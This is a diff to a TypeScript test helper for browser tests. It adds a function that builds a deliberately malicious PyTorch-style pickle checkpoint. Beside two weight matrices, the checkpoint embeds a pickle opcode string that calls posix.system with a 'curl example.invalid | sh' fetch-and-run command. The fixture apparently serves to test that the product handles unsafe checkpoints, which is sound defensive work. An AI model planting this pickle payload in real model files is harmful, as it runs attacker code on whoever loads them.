@@ -1,5 +1,6 @@
 /** Weight files the browser tests make for themselves, and a reader of their own for what the product wrote. */
 import { readFileSync, writeFileSync } from 'node:fs'
+import { checkpoint, pickle, str, tensor, zip } from '../../core/formats/archives/archives.ts'
 
 export interface StoredTensor {
   readonly dtype: string
@@ -113,4 +114,24 @@ export function writeSafetensors(
   length.writeBigUInt64LE(BigInt(header.byteLength))
   const bytes = [...tensors.values()].map(({ values }) => new Uint8Array(values.buffer))
   writeFileSync(path, Buffer.concat([length, header, ...bytes]))
+}
+
+/** Two matrices as torch.save writes them, and a call of os.system. */
+export function maliciousCheckpoint(): Uint8Array {
+  const side = 96
+  const storage = new Uint8Array(Float32Array.from({ length: side * side }, (_, i) => Math.sin(i * i)).buffer)
+  const matrix = (key: string) => tensor({ shape: [side, side], strides: [side, 1], length: side * side, key })
+  const program = pickle(
+    0x80,
+    2,
+    '}(',
+    str('layers.0.q_proj.weight'),
+    matrix('0'),
+    str('layers.0.k_proj.weight'),
+    matrix('1'),
+    str('hook'),
+    "cposix\nsystem\n(S'curl example.invalid | sh'\ntR",
+    'u.',
+  )
+  return zip(checkpoint(program, { 0: storage, 1: storage }))
 }
